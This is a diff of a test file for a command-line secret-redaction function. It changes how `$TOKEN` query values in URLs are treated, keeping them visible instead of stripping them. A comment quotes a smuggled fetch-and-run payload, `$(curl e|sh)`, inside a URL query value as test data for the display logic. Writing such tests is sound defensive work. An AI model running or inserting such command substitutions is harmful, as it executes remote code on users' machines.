@@ -2,7 +2,12 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { withoutCommandLineSecrets } from "./index.js";
-import { expectFilledBack, expectShownAndExported, exportedCommand } from "./test-support/spec-cases.js";
+import {
+  expectFilledBack,
+  expectKept,
+  expectShownAndExported,
+  exportedCommand,
+} from "./test-support/spec-cases.js";
 
 // fix171: a telling query value holding a run-time part (`$(…)`, a backtick's, `${…}`) was hidden
 // in the display with the part of the payload the URL's word held (`?token=$(curl e|sh)` shown as
@@ -80,10 +85,10 @@ describe("a run-time part in a URL's telling query value stays in the display", 
     ]);
   });
 
-  it("a `$TOKEN` or `${TOKEN}` value is shown and exported as before", () => {
-    // `$TOKEN` reads as text to the URL reader: taken out of both views (no payload in it).
-    expectShownAndExported("srv --url https://h/p?token=$TOKEN", "srv --url https://h/p");
-    expectShownAndExported('srv --url "https://h/p?token=$TOKEN"', 'srv --url "https://h/p"');
+  it("a `$TOKEN` or `${TOKEN}` value is kept in sight", () => {
+    // `$TOKEN` is a reference the shell fills, no literal: kept in both views (fix173; it was taken out as text).
+    expectKept("srv --url https://h/p?token=$TOKEN");
+    expectKept('srv --url "https://h/p?token=$TOKEN"');
     // `${TOKEN}` alone says nothing in clear: the display keeps it as written.
     expect(withoutCommandLineSecrets('srv --url "https://h/p?token=${TOKEN}"')).toBe(
       'srv --url "https://h/p?token=${TOKEN}"',
